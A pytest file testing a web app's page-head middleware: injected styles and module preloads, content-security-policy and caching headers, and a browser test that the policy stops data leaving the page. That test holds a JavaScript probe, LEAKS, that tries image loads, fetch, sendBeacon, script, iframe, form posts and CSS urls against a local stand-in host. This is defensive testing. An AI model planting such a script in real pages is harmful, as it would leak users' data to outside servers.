"""The head of every page: rules and parts that come with the document, and what its answer forbids."""

from __future__ import annotations

import asyncio
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from app_building import make_workspace
from browsing import Seen, Served, app_of, watched

from workbench.store import Store
from workbench.ui import page_head, style
from workbench.ui.page_head import HEADERS, PageHead, head, modules

ASKS = [(b"accept", b"text/html,*/*"), (b"accept-encoding", b"gzip"), (b"if-none-match", b'"1"')]
PAGE = b"<html><head><title>x</title></head><body></body></html>"


def answered(
    kind: str,
    body: list[bytes],
    *,
    status: int = 200,
    asks: list[tuple[bytes, bytes]] = ASKS,
    path: str = "/",
) -> tuple[dict[str, Any], bytes, list[bytes]]:
    """Return what the middleware makes of an answer in parts, and the names of the headers it asks with."""
    sent: list[dict[str, Any]] = []
    heard: list[bytes] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        heard.extend(name for name, _ in scope["headers"])
        headers = [
            (b"content-type", kind.encode()),
            (b"content-length", b"1"),
            (b"etag", b'"1"'),
            (b"x", b"y"),
        ]
        await send({"type": "http.response.start", "status": status, "headers": headers})
        for at, part in enumerate(body):
            more = at < len(body) - 1
            await send({"type": "http.response.body", "body": part, "more_body": more})

    async def send(message: Any) -> None:
        sent.append(message)

    async def receive() -> Any:
        return {"type": "http.request"}

    scope = {"type": "http", "method": "GET", "path": path, "headers": asks}
    asyncio.run(PageHead(app)(scope, receive, send))
    start, *parts = sent
    return dict(start["headers"]) | {b":status": start["status"]}, b"".join(p["body"] for p in parts), heard


def test_a_page_gets_its_rules_and_parts_and_may_ask_no_other_host() -> None:
    """In one piece, of the right length, and never from what a browser kept."""
    headers, body, heard = answered("text/html; charset=utf-8", [PAGE[:20], PAGE[20:]])
    assert body == PAGE.replace(b"</head>", f"{head()}</head>".encode())
    assert headers[b"content-length"] == str(len(body)).encode()
    assert b"etag" not in headers
    assert headers[b"x"] == b"y"
    assert all(headers[name] == value for name, value in HEADERS)
    assert heard == [b"accept"]


def test_whoever_asks_for_the_headers_alone_is_told_no_wrong_length() -> None:
    """The policy is among them."""
    headers, body, _ = answered("text/html", [b""])
    assert body == b""
    assert b"content-length" not in headers
    assert b"content-security-policy" in headers


@pytest.mark.parametrize(
    ("kind", "status", "asks"),
    [
        ("text/javascript", 200, ASKS),
        ("text/html", 404, ASKS),
        ("text/html", 200, [(b"accept", b"*/*")]),
    ],
)
def test_any_other_answer_goes_through_as_it_is(
    kind: str, status: int, asks: list[tuple[bytes, bytes]]
) -> None:
    """A script, an error, or a document that nobody opens as a page."""
    headers, body, _ = answered(kind, [PAGE, b"more"], status=status, asks=asks)
    assert body == PAGE + b"more"
    assert (headers[b"etag"], headers[b":status"]) == (b'"1"', status)


def test_parts_come_with_what_they_import_and_without_what_the_document_names(tmp_path: Path) -> None:
    """Imports of imports, each once; what is only imported later is not."""
    folder = tmp_path / "static" / "js"
    folder.mkdir(parents=True)
    (tmp_path / "index.html").write_text('<script src="./static/js/index.1.js"></script>')
    (folder / "Html.a-1.js").write_text(
        'import{a}from"./one.2.js";import"./index.1.js";import("./late.3.js")'
    )
    (folder / "one.2.js").write_text("import {b} from './two.3.js'; import './Html.a-1.js'")
    for name in ("two.3.js", "late.3.js", "index.1.js"):
        (folder / name).write_text("")
    assert modules(tmp_path) == ["Html.a-1.js", "one.2.js", "two.3.js"]
    assert modules(tmp_path / "elsewhere") == []


def test_this_version_of_streamlit_has_every_part() -> None:
    """Under another name it would come late, and the page would jump."""
    found = modules(page_head._STATIC)
    assert {each.split(".")[0] for each in found} >= set(page_head.PARTS)
    assert sum((page_head._STATIC / "static" / "js" / each).stat().st_size for each in found) < 500_000


def test_rules_in_the_head_hold_against_those_that_streamlit_writes_behind_them() -> None:
    """They are nested in the root, and know both themes."""
    assert style.document_rules().startswith("<style>\n:root {\n.stApp {")
    assert style.document_rules() in head()
    assert "light-dark(" in style.document_rules()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    workspace = make_workspace(tmp_path_factory.mktemp("head") / "w")
    Store.open(workspace.store_path, spool=workspace.spool).close()
    with app_of(workspace) as app:
        yield app


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Run another host that hears whatever it is asked."""
    heard: list[str] = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that the server calls

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", heard
    server.shutdown()
    thread.join()
    server.server_close()


LEAKS = """async address => {
  const tried = [];
  const image = new Image();
  tried.push(new Promise(done => { image.onerror = image.onload = done; image.src = address + '/image'; }));
  tried.push(fetch(address + '/fetch').catch(() => 0));
  tried.push(Promise.resolve(navigator.sendBeacon(address + '/beacon', 'text')));
  for (const [name, of] of [['script', 'src'], ['link', 'href'], ['iframe', 'src'], ['object', 'data']]) {
    const each = document.createElement(name);
    if (name === 'link') each.rel = 'stylesheet';
    each[of] = address + '/' + name;
    document.body.append(each);
  }
  const form = document.createElement('form');
  form.action = address + '/form';
  form.method = 'post';
  form.target = 'elsewhere';
  document.body.append(form);
  form.submit();
  const rule = document.createElement('style');
  rule.textContent = `body { background: url(${address}/rule) }`;
  document.head.append(rule);
  await Promise.all(tried);
  await new Promise(done => setTimeout(done, 500));
}"""


@pytest.mark.browser
def test_nothing_on_a_page_can_send_anything_to_another_host(
    served: Served, browser: Any, foreign: tuple[str, list[str]]
) -> None:
    """Were a log's text ever run as markup: no picture, script, frame, form, rule or request leaves."""
    address, heard = foreign
    page, _ = watched(browser)
    page.goto(f"{served.url}/settings")
    page.locator('[data-testid="stMain"] h1').wait_for()
    page.evaluate(LEAKS, address)
    assert heard == []
    other = page.context.new_page()
    other.goto(f"{address}/control")
    assert "/control" in heard, "the ear hears"


@pytest.mark.browser
def test_files_that_draw_a_page_are_still_kept_by_the_browser(served: Served, browser: Any) -> None:
    """Only the document is written into."""
    page, seen = watched(browser)
    answer = page.request.get(f"{served.url}/static/js/{modules(page_head._STATIC)[0]}")
    assert "immutable" in answer.headers["cache-control"]
    assert "content-security-policy" not in answer.headers
    opened = page.goto(f"{served.url}/overview")
    assert opened.headers["cache-control"] == "no-cache"
    assert head() in opened.text()
    assert seen == Seen()
